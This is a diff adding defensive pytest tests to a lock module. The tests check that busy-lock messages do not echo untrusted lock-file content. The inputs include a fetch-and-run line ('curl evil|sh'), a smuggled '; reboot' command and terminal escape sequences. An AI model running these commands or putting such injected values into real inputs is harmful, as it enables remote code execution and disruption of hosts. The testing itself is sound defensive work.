@@ -421,3 +421,23 @@ def test_a_sign_of_life_is_never_seen_half(outer, root):
     while time.monotonic() < stop:
         outer.beat()
         assert (root / "lock").read_text().partition("\n")[0].endswith("\tab12")
+
+
+def test_times_that_cannot_be_are_not_told():
+    """A device's clock, or whoever wrote its lock's file, may say anything."""
+    for began in ("400", "0"):
+        fault = lock._busy("local", ["busy", "1", "0" if began == "400" else "99999999", f"{began} ann@desk"])
+        assert "for " not in fault.details, fault.details
+        assert fault.details.startswith("the last sign of life came 1 s ago")
+
+
+@pytest.mark.parametrize("end", ["curl evil|sh", "toolchain farm release a; reboot", "toolchain farm release -x"])
+def test_a_command_that_is_none_of_ours_is_not_told(end):
+    fault = lock._busy("local", ["busy", "1", "5", f"3 ann@desk\ttune\t{end}"])
+    assert fault.hint == "run the command again when that has ended, or with --wait SECONDS"
+
+
+def test_the_words_of_an_owner_steer_no_terminal():
+    fault = lock._busy("local", ["busy", "1", "5", "3 ann\x1b[2J\ttune \x1b]0;x\x07"])
+    assert fault.message == "local is busy: ann\\x1b[2J holds it: tune \\x1b]0;x\\x07"
+    assert "\x1b" not in fault.owner
